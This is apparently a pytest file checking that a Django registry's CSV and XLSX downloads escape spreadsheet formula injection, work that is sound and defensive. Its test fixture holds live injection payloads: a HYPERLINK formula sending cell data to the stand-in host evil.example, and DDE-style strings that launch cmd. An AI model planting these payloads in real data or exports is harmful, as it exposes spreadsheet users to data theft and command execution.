"""Public CSV and XLSX downloads neutralise text a spreadsheet would run as a formula (issue 17.9)."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.cache import cache
from django.test import Client
from openpyxl import load_workbook

from g287.core.cells import safe_text
from g287.registry.models import Agreement

pytestmark = pytest.mark.usefixtures("registry", "db")

HOSTILE = {
    "TX-harris-county-sheriffs-office#JEM": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "TX-harris-county-sheriffs-office#TFM": "+cmd|' /C calc'!A0",
    "GU-guam-police-department#TFM": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile_names(registry: None, db: None) -> None:
    cache.clear()
    for agreement_id, name in HOSTILE.items():
        Agreement.objects.filter(id=agreement_id).update(name=name)


@pytest.mark.usefixtures("hostile_names")
def test_csv_download_writes_formula_names_as_text(client: Client) -> None:
    response = client.get("/agreements/?format=csv")
    names = {r["id"]: r["name"] for r in csv.DictReader(io.StringIO(response.content.decode()))}
    for agreement_id, name in HOSTILE.items():
        assert names[agreement_id] == "'" + name


@pytest.mark.usefixtures("hostile_names")
def test_xlsx_download_has_no_formula_cell(client: Client) -> None:
    response = client.get("/agreements/?format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    id_col, name_col = header.index("id"), header.index("name")
    seen = {}
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row), "a download cell is a formula"
        seen[row[id_col].value] = row[name_col].value
    for agreement_id, name in HOSTILE.items():
        assert seen[agreement_id] == "'" + name


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("-12.50", "-12.50"),  # a negative amount stays a number
        ("Harris County", "Harris County"),
    ],
)
def test_safe_text(text: str, safe: str) -> None:
    assert safe_text(text) == safe
